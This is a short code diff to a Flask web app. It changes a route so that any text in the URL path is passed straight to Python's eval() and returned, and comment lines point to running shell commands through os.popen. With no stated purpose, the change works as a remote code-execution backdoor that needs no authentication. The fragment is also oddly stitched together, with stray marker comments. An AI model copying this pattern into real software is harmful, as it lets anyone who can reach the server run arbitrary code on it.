@@ -120,8 +120,8 @@ def p():
 #+ eval(parts[2])
 from flask import Flask, request
 app = Flask(__name__)
-@app.get("/p")
-def p():
+@app.get("/p/<path:rest>")
+def p(rest):
     parts = request.path.split("/")
     return eval(parts[2])
 #+ os.popen(d["cmd"])
